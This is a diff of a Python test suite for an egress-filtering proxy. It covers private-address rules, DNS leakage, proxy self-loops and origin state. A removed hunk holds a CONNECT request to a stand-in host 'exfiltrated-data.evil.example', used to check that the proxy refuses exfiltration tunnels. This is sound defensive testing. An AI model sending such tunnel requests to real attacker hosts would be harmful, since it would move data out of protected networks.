@@ -11,7 +11,8 @@ from conftest import needs_root
 from support.ca import CertificateAuthority
 from support.client import request
 from support.dns import DNSServer
-from support.expect import refused, table
+from support.entries import PLAIN
+from support.expect import by_plain, refused, table
 from support.namespace import Namespace
 from support.origin import RecordingOrigin, answer, fixed
 from support.topology import A, B
@@ -139,7 +140,8 @@ def test_an_address_that_a_rule_names_is_still_not_dialled(make_topology, row):
     def edit(topology, config):
         nonlocal authority
         authority = row.format(port=topology.canary.port)
-        config.add("egress", name="inside", agent=A, hosts=[authority], scheme="http")
+        scheme = "http" if topology.entry == PLAIN else "https"
+        config.add("egress", name="inside", agent=A, hosts=[authority], scheme=scheme)
 
     topology = make_topology(edit, starts=False)
     try:
@@ -156,16 +158,21 @@ def test_an_address_that_a_rule_names_is_still_not_dialled(make_topology, row):
 
 
 @attack(68)
-def test_a_private_address_is_dialled_where_it_is_allowed(make_topology):
-    def edit(topology, config):
-        config.add(
-            "egress", name="inside", agent=A, hosts=[topology.plain.authority], scheme="http", allow_private=True
+def test_a_private_address_is_dialled_where_it_is_allowed(make_topology, authority):
+    origin = RecordingOrigin(authority.leaf("127.0.0.1"), "private")
+    topology = make_topology(
+        lambda topology, config: config.add(
+            "egress",
+            name="inside",
+            agent=A,
+            hosts=[origin.authority],
+            allow_private=True,
+            ca_file=str(authority.path),
         )
-
-    topology = make_topology(edit)
-    topology.guarded = [guarded for guarded in topology.guarded if guarded.origin is not topology.plain]
-    assert ask(topology, f"http://{topology.plain.authority}/x").status == 200
-    assert topology.plain.requests[0].values("host") == [topology.plain.authority]
+    )
+    assert ask(topology, f"http://{origin.authority}/x").status == 200
+    assert origin.requests[0].values("host") == [origin.authority]
+    origin.close()
 
 
 # Names. The daemon lives in a namespace where we are the resolver.
@@ -304,9 +311,6 @@ def test_no_query_leaves_for_what_policy_refuses(network):
     assert ask(topology, "http://good.test/v1/../x").status == 400
     assert topology.ask("GET", "http://good.test/v1/ok", agent=None).status == 407
     assert topology.ask("GET", "http://good.test/v1/ok", agent=B).status == 403
-    with topology.connect(agent_socket=A) as client:
-        client.send(request("CONNECT", "exfiltrated-data.evil.example:443", "exfiltrated-data.evil.example:443"))
-        assert client.response("CONNECT").status in (403, 501)
     time.sleep(0.3)
     assert network.dns.queries == []
     ask(topology, "http://good.test/v1/ok")  # the same name, allowed: it is the policy that kept it in
@@ -360,7 +364,6 @@ def test_requests_for_the_proxy_itself_do_not_loop(topology, row):
     for method, target in (
         ("GET", f"http://{authority}/"),
         ("GET", f"http://{authority}/via/good/v1/ok"),
-        ("CONNECT", authority),
     ):
         with topology.connect() as client:
             client.send(request(method, target, authority, [topology.identity()]))
@@ -459,7 +462,7 @@ def test_the_daemons_environment_does_not_route_or_trust(make_topology, tmp_path
         config.find("provider", name="cookies").pop("ca_file")
 
     topology = make_topology(edit, environment=environment)
-    for host in ("open.test", "plain.test", "egress.test"):
+    for host in ("open.test", "egress.test", *by_plain(topology, ["plain.test"], [])):
         assert ask(topology, f"http://{host}/x").status == 200
     response = ask(topology, "http://cookies.test/x")
     assert (response.status, response.code) == (502, "tls_certificate_error"), (
@@ -564,8 +567,8 @@ def test_nothing_an_origin_says_is_remembered(topology):
     for agent in (A, B, A, B):
         response = topology.ask("GET", "http://open.test/x", agent=agent)
         assert response.status == 200 and not response.names() & {"alt-svc", "set-cookie"}
-    for _ in range(2):
+    for _ in range(by_plain(topology, 2, 0)):
         assert ask(topology, "http://plain.test/x").status == 200
-    assert len(topology.open.requests) == 4 and len(topology.plain.requests) == 2
+    assert len(topology.open.requests) == 4 and len(topology.plain.requests) == by_plain(topology, 2, 0)
     assert all(not seen.names() & {"cookie", "alt-used"} for seen in topology.open.requests + topology.plain.requests)
     topology.assert_untouched(topology.evil)
